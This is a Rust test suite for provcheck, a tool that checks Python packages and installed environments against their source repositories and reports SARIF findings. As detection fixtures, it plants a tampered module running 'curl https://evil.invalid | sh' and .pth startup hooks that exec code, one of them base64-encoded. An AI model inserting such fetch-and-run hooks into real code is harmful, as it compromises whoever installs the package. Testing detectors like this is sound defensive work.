//! `provcheck verify` over dependency sets: requirements files, lockfiles and installed
//! environments, against a fake index on 127.0.0.1 and generated repositories; the
//! table, Markdown and SARIF (validated against the official schema) a user gets, and the
//! configuration that decides what fails.

use std::path::{Path, PathBuf};

use provcheck_testkit::FakeIndex;
use serde_json::Value;

use crate::common::*;

const GITHUB_URL: &str = "https://github.com/demo-org/demo";

/// Three projects on the index:
/// - `demo` 1.4.0 (wheel + sdist) whose metadata names its GitHub repository (a seeded
///   clone of a local remote): verified;
/// - `evil` 2.0.0, a wheel that adds `evil_init.pth` to its tagged commit: mismatch; its
///   repository is a local path given with `--repo evil=PATH`;
/// - `orphan` 0.3.0, whose metadata names no repository: no-source.
struct World {
    sandbox: Sandbox,
    index: FakeIndex,
    cache: PathBuf,
    evil_repo: PathBuf,
    demo_wheel: String,
    demo_sdist: String,
}

fn world() -> World {
    let sandbox = Sandbox::new();
    let index = FakeIndex::start();
    let dist = sandbox.join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    let publish = |path: &Path, project: &str, version: &str| {
        index.publish(
            project,
            version,
            path.file_name().unwrap().to_str().unwrap(),
            std::fs::read(path).unwrap(),
            "2026-03-24T10:00:00Z",
        );
    };

    let remote = sandbox.join("remote");
    let mut repo = Repo::init_remote(&remote);
    let source = demo_source();
    let commit = repo.commit("Release 1.4.0", &source);
    repo.tag("v1.4.0", commit);
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source)).write(&dist);
    let sdist = Sdist::new("demo", "1.4.0", &demo_sdist_files(&source)).write(&dist);
    publish(&wheel, "demo", "1.4.0");
    publish(&sdist, "demo", "1.4.0");
    index.set_project_info(
        "demo",
        serde_json::json!({"project_urls": {"Source": GITHUB_URL}, "home_page": null}),
    );
    let cache = sandbox.join("cache");
    seed_clone(
        &cache,
        "github.com/demo-org/demo",
        &format!("file://{}", remote.display()),
    );

    let evil_repo = sandbox.join("evil-repo");
    let mut evil = Repo::init(&evil_repo);
    let evil_source = vec![
        f("README.md", "# evil\n"),
        f("src/evil/__init__.py", "VALUE = 1\n"),
    ];
    let commit = evil.commit("Release 2.0.0", &evil_source);
    evil.tag("v2.0.0", commit);
    let mut files = demo_wheel_files(&evil_source);
    files.push(f("evil_init.pth", "import os; exec('print(1)')\n"));
    publish(
        &Wheel::new("evil", "2.0.0", &files).write(&dist),
        "evil",
        "2.0.0",
    );

    let orphan = Sdist::new("orphan", "0.3.0", &[f("orphan.py", "X = 1\n")]).write(&dist);
    publish(&orphan, "orphan", "0.3.0");

    World {
        demo_wheel: sha256_file(&wheel),
        demo_sdist: sha256_file(&sdist),
        sandbox,
        index,
        cache,
        evil_repo,
    }
}

impl World {
    /// `provcheck verify ARGS` in the sandbox, against the fake index and the cache.
    fn verify(&self, args: &[&str]) -> Run {
        let index_url = self.index.simple_url();
        let cache = self.cache.display().to_string();
        let mut all = vec!["verify"];
        all.extend_from_slice(args);
        all.extend([
            "--index-url",
            &index_url,
            "--cache-dir",
            &cache,
            "--python",
            "3.12",
            "--jobs",
            "2",
        ]);
        provcheck_in(self.sandbox.path(), &all)
    }

    fn evil_repo_arg(&self) -> String {
        format!("evil={}", self.evil_repo.display())
    }

    /// requirements.txt (including base.txt) with every kind of line.
    fn requirements(&self) {
        std::fs::write(self.sandbox.join("base.txt"), "orphan==0.3.0\n").unwrap();
        std::fs::write(
            self.sandbox.join("requirements.txt"),
            format!(
                "# the app's dependencies\n\
                 --index-url https://pypi.org/simple\n\
                 -r base.txt\n\
                 demo==1.4.0 \\\n    --hash=sha256:{}\n\
                 evil==2.0.0 ; python_version >= \"3.8\"\n\
                 colorama==0.4.6 ; sys_platform == \"win32\"\n\
                 requests>=2.31\n\
                 git+https://github.com/acme/internal-tools.git@v0.9.1#egg=internal-tools\n",
                self.demo_wheel
            ),
        )
        .unwrap();
    }

    fn filtered(&self, text: &str) -> String {
        text.replace(&self.sandbox.path().display().to_string(), "[TMP]")
            .replace(env!("CARGO_PKG_VERSION"), "[VERSION]")
    }
}

fn requested<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["requested"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("{name} not requested: {report}"))
}

fn release<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["releases"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("no release {name}: {report}"))
}

#[test]
fn a_requirements_file_with_includes_hashes_markers_unpinned_and_vcs_lines() {
    let world = world();
    world.requirements();
    let evil = world.evil_repo_arg();
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let report = run.json();
    let statuses: Vec<String> = report["requested"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            format!(
                "{} {} {}:{}",
                r["name"].as_str().unwrap(),
                r["status"].as_str().unwrap(),
                r["file"].as_str().unwrap_or("-"),
                r["line"]
            )
        })
        .collect();
    assert_eq!(
        statuses,
        vec![
            "orphan checked base.txt:1",
            "demo checked requirements.txt:4",
            "evil checked requirements.txt:6",
            "colorama excluded requirements.txt:7",
            "requests unpinned requirements.txt:8",
            "internal-tools not-from-index requirements.txt:9",
        ]
    );
    // The hash pins the wheel: the sdist is not verified.
    let demo = release(&report, "demo");
    assert_eq!(demo["verdict"], "verified");
    assert_eq!(demo["source"]["repo"], GITHUB_URL);
    let artifacts = demo["artifacts"].as_array().unwrap();
    assert_eq!(artifacts.len(), 1);
    assert_eq!(artifacts[0]["sha256"], world.demo_wheel.as_str());
    let evil = release(&report, "evil");
    assert_eq!(evil["verdict"], "mismatch");
    assert_eq!(
        evil["source"]["repo"],
        world.evil_repo.display().to_string()
    );
    let orphan = release(&report, "orphan");
    assert_eq!(orphan["verdict"], "no-source");
    assert!(
        requested(&report, "requests")["reason"]
            .as_str()
            .unwrap()
            .contains("not one exact version")
    );
    assert!(
        requested(&report, "colorama")["reason"]
            .as_str()
            .unwrap()
            .contains("win32")
    );
    // On Windows the marker holds (colorama is not on this index: an error, exit 2).
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &world.evil_repo_arg(),
        "--platform",
        "win_amd64",
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert_eq!(requested(&run.json(), "colorama")["status"], "error");
}

#[test]
fn accepted_missing_sources_and_a_hash_the_index_does_not_have() {
    let world = world();
    std::fs::write(
        world.sandbox.join("requirements.txt"),
        "demo==1.4.0\norphan==0.3.0\n",
    )
    .unwrap();
    let run = world.verify(&["-r", "requirements.txt", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--allow-no-source",
        "orphan",
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(
        release(&report, "demo")["artifacts"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    assert_eq!(report["policy"]["allow_no_source"][0]["name"], "orphan");

    std::fs::write(
        world.sandbox.join("requirements.txt"),
        format!("demo==1.4.0 --hash=sha256:{}\n", "0".repeat(64)),
    )
    .unwrap();
    let run = world.verify(&["-r", "requirements.txt", "--format", "json"]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    let demo = requested(&run.json(), "demo").clone();
    assert_eq!(demo["status"], "error");
    assert!(
        demo["reason"].as_str().unwrap().contains("pinned hash"),
        "{demo}"
    );
}

#[test]
fn table_and_markdown_output() {
    let world = world();
    world.requirements();
    let evil = world.evil_repo_arg();
    let run = world.verify(&["-r", "requirements.txt", "--repo", &evil]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    insta::assert_snapshot!("deps_text", world.filtered(&run.stdout));
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--format",
        "markdown",
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    insta::assert_snapshot!("deps_markdown", world.filtered(&run.stdout));
    // The report goes to a file; the table to stderr.
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--format",
        "markdown",
        "--output",
        "report.md",
    ]);
    assert_eq!(run.code, 1);
    assert!(run.stdout.is_empty());
    assert!(run.stderr.contains("MOST SEVERE FINDING"), "{}", run.stderr);
    assert!(world.sandbox.join("report.md").is_file());
}

/// The official SARIF 2.1.0 schema (testdata/sarif/README.md says where it comes from).
fn sarif_validator() -> jsonschema::Validator {
    let mut schema: Value =
        serde_json::from_str(include_str!("../testdata/sarif/sarif-schema-2.1.0.json")).unwrap();
    // The schema's `language` patterns have a stray `]` (a literal in ECMA regexes) that
    // the validator's regex dialect rejects; escape it. provcheck sets no `language`.
    fn escape_stray_bracket(value: &mut Value) -> usize {
        match value {
            Value::Object(map) => {
                let mut fixed = 0;
                if let Some(pattern) = map.get_mut("pattern")
                    && pattern == "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$"
                {
                    *pattern = Value::from(r"^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}\]?$");
                    fixed += 1;
                }
                fixed + map.values_mut().map(escape_stray_bracket).sum::<usize>()
            }
            Value::Array(items) => items.iter_mut().map(escape_stray_bracket).sum(),
            _ => 0,
        }
    }
    assert!(escape_stray_bracket(&mut schema) > 0);
    jsonschema::draft4::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the SARIF schema compiles")
}

fn assert_valid_sarif(log: &Value) {
    let validator = sarif_validator();
    let errors: Vec<String> = validator
        .iter_errors(log)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "invalid SARIF: {errors:#?}");
}

#[test]
fn sarif_is_valid_located_at_the_requirement_and_stable() {
    let world = world();
    world.requirements();
    let evil = world.evil_repo_arg();
    let args = [
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--allow-no-source",
        "orphan",
        "--format",
        "sarif",
    ];
    let run = world.verify(&args);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let log = run.json();
    assert_valid_sarif(&log);
    assert_eq!(log["version"], "2.1.0");
    let sarif_run = &log["runs"][0];
    let rules = sarif_run["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules.len(), provcheck_report::Code::ALL.len());
    let startup = rules.iter().find(|r| r["id"] == "startup-hook").unwrap();
    assert!(
        startup["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("LiteLLM 1.82.8"),
        "help text from docs/findings.md: {startup}"
    );
    let results = sarif_run["results"].as_array().unwrap();
    let hook = results
        .iter()
        .find(|r| r["ruleId"] == "startup-hook")
        .expect("the .pth is reported");
    assert_eq!(hook["level"], "error");
    let location = &hook["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], "requirements.txt");
    assert_eq!(location["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    assert_eq!(location["region"]["startLine"], 6);
    assert_eq!(
        hook["locations"][0]["logicalLocations"][0]["fullyQualifiedName"],
        "evil==2.0.0/evil-2.0.0-py3-none-any.whl/evil_init.pth"
    );
    // The accepted missing source is a suppressed result at base.txt:1.
    let orphan = results
        .iter()
        .find(|r| r["properties"]["package"] == "orphan" && r["ruleId"] == "no-commit")
        .expect("orphan's no-commit");
    assert_eq!(orphan["suppressions"][0]["kind"], "external");
    assert_eq!(
        orphan["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "base.txt"
    );
    // Same findings, same fingerprints.
    let again = world.verify(&args).json();
    let prints = |log: &Value| -> Vec<String> {
        log["runs"][0]["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                r["partialFingerprints"]["provcheck/v1"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            })
            .collect()
    };
    assert_eq!(prints(&log), prints(&again));
    let unique: std::collections::HashSet<_> = prints(&log).into_iter().collect();
    assert_eq!(unique.len(), results.len());
}

/// The schema itself catches a broken log (the validation is not a no-op).
#[test]
fn the_sarif_schema_rejects_a_broken_log() {
    let broken = serde_json::json!({"version": "2.1.0", "runs": [{"results": []}]});
    assert!(sarif_validator().iter_errors(&broken).next().is_some());
}

fn lockfile(world: &World, name: &str) -> PathBuf {
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("testdata/lockfiles")
            .join(name),
    )
    .unwrap()
    .replace("@DEMO_WHEEL_SHA256@", &world.demo_wheel)
    .replace("@DEMO_SDIST_SHA256@", &world.demo_sdist);
    let path = world.sandbox.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn every_lockfile_format() {
    let world = world();
    for (name, demo_files) in [
        ("uv.lock", 2),
        ("poetry.lock", 2),
        ("pylock.toml", 1),
        ("Pipfile.lock", 2),
    ] {
        lockfile(&world, name);
        let run = world.verify(&["--lock", name, "--format", "json"]);
        assert_eq!(run.code, 0, "{name}: {}{}", run.stdout, run.stderr);
        let report = run.json();
        assert_eq!(report["releases"].as_array().unwrap().len(), 1, "{name}");
        let demo = release(&report, "demo");
        assert_eq!(demo["verdict"], "verified", "{name}");
        assert_eq!(
            demo["artifacts"].as_array().unwrap().len(),
            demo_files,
            "{name}"
        );
        assert_eq!(requested(&report, "demo")["file"], name);
        assert_eq!(
            requested(&report, "colorama")["status"],
            "excluded",
            "{name}"
        );
        assert_eq!(
            requested(&report, "internal-tools")["status"],
            "not-from-index",
            "{name}"
        );
    }
    let run = world.verify(&["--lock", "requirements.lock"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("not a known lockfile"),
        "{}",
        run.stderr
    );
}

/// A virtualenv with demo 1.4.0 installed, one of its files changed after install, and a
/// `.pth` that no distribution installed.
fn venv(world: &World) -> PathBuf {
    let venv = world.sandbox.join(".venv");
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::fs::write(
        venv.join("pyvenv.cfg"),
        "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.12.3\n",
    )
    .unwrap();
    let site = venv.join("lib/python3.12/site-packages");
    let dist_info = site.join("demo-1.4.0.dist-info");
    std::fs::create_dir_all(&dist_info).unwrap();
    let mut record = String::new();
    for file in demo_wheel_files(&demo_source()) {
        let path = site.join(&file.path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &file.content).unwrap();
        record.push_str(&record_row(&file.path, &file.content));
    }
    let metadata = metadata("demo", "1.4.0");
    std::fs::write(dist_info.join("METADATA"), &metadata).unwrap();
    std::fs::write(dist_info.join("INSTALLER"), "pip\n").unwrap();
    record.push_str(&record_row(
        "demo-1.4.0.dist-info/METADATA",
        metadata.as_bytes(),
    ));
    record.push_str(&record_row("demo-1.4.0.dist-info/INSTALLER", b"pip\n"));
    record.push_str("demo-1.4.0.dist-info/RECORD,,\n");
    std::fs::write(dist_info.join("RECORD"), record).unwrap();
    // After install: a changed module and a stray startup hook.
    std::fs::write(
        site.join("demo/core.py"),
        "import os\nos.system('curl https://evil.invalid | sh')\n",
    )
    .unwrap();
    std::fs::write(
        site.join("zz_init.pth"),
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    )
    .unwrap();
    venv
}

#[test]
fn an_installed_environment_with_a_tampered_file_and_a_stray_pth() {
    let world = world();
    venv(&world);
    let run = world.verify(&["--env", ".venv", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let report = run.json();
    let demo = release(&report, "demo");
    // The release on the index is clean; the installed copy is not.
    assert!(
        demo["artifacts"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["verdict"] == "verified")
    );
    assert_eq!(demo["verdict"], "mismatch");
    assert_eq!(demo["findings"][0]["code"], "record-mismatch");
    assert_eq!(demo["findings"][0]["severity"], "high");
    assert_eq!(demo["findings"][0]["path"], "demo/core.py");
    assert_eq!(
        requested(&report, "demo")["file"],
        ".venv/lib/python3.12/site-packages/demo-1.4.0.dist-info/METADATA"
    );
    let stray = &report["findings"][0];
    assert_eq!(stray["code"], "startup-hook");
    assert_eq!(stray["severity"], "critical");
    assert!(
        stray["path"]
            .as_str()
            .unwrap()
            .ends_with("site-packages/zz_init.pth")
    );

    let run = world.verify(&["--env", ".venv", "--format", "sarif"]);
    assert_eq!(run.code, 1);
    assert_valid_sarif(&run.json());
    let run = world.verify(&["--env", ".venv"]);
    insta::assert_snapshot!("deps_env_text", world.filtered(&run.stdout));
}

#[test]
fn configuration_allows_ignores_and_repositories() {
    let world = world();
    world.requirements();
    // Repositories relative to the configuration file; allows with reasons; an ignore.
    std::fs::write(
        world.sandbox.join("provcheck.toml"),
        "ignore = [\"evil\"]\nrepos = { Demo = \"remote\" }\n\n[allow-no-source]\norphan = \"published from a private repository\"\n",
    )
    .unwrap();
    let run = world.verify(&["-r", "requirements.txt", "--format", "json"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("configuration: ./provcheck.toml"),
        "{}",
        run.stderr
    );
    let report = run.json();
    assert_eq!(requested(&report, "evil")["status"], "ignored");
    assert_eq!(
        release(&report, "demo")["source"]["repo"],
        world.sandbox.join("remote").display().to_string()
    );
    // A command-line --repo wins over the configuration's.
    let evil = world.evil_repo_arg();
    let run = world.verify(&[
        "demo==1.4.0",
        "evil==2.0.0",
        "--repo",
        &format!("demo={GITHUB_URL}"),
        "--repo",
        &evil,
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(release(&run.json(), "demo")["source"]["repo"], GITHUB_URL);

    // An allow for the evil wheel's findings, with a reason: the run passes; --fail-on
    // on the command line overrides the file's fail-on.
    std::fs::write(
        world.sandbox.join("provcheck.toml"),
        "fail-on = \"critical\"\n\n[[allow]]\ncode = \"startup-hook\"\npackages = [\"evil\"]\nreason = \"reviewed: prints 1\"\n\n[[allow]]\ncode = \"extra-file\"\npackages = [\"evil\"]\nreason = \"reviewed\"\nexpires = 2999-12-31\n\n[allow-no-source]\norphan = \"private\"\n",
    )
    .unwrap();
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--format",
        "json",
    ]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.json()["policy"]["fail_on"], "critical");
    let run = world.verify(&[
        "-r",
        "requirements.txt",
        "--repo",
        &evil,
        "--fail-on",
        "low",
        "--format",
        "json",
    ]);
    assert_eq!(run.json()["policy"]["fail_on"], "low");

    // Unknown keys are errors that say which.
    std::fs::write(world.sandbox.join("provcheck.toml"), "fail_on = \"high\"\n").unwrap();
    let run = world.verify(&["-r", "requirements.txt"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("unknown field `fail_on`"),
        "{}",
        run.stderr
    );
    let run = world.verify(&["-r", "requirements.txt", "--no-config", "--repo", &evil]);
    assert_eq!(run.code, 1, "{}", run.stderr);
}

#[test]
fn repo_arguments_for_one_target_and_for_a_set() {
    let world = world();
    let remote = world.sandbox.join("remote").display().to_string();
    // Plain --repo PATH still names the repository of a single target.
    let run = world.verify(&["demo==1.4.0", "--repo", &remote, "--format", "json"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.json()["releases"][0]["source"]["repo"], remote);
    // A set needs NAME=.
    world.requirements();
    let run = world.verify(&["-r", "requirements.txt", "--repo", &remote]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("--repo NAME=URL|PATH"),
        "{}",
        run.stderr
    );
}
